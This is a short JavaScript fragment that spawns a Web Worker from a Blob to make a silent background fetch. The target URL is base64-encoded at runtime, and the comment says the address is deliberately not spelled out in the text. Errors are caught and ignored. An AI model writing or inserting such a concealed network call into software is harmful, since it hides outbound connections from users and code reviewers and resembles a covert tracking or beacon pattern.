// The text does not spell the address out: only what runs knows it.
new Worker(
  URL.createObjectURL(
    new Blob(['fetch(atob("' + btoa(U('json')) + '")).catch(() => {})']),
  ),
);
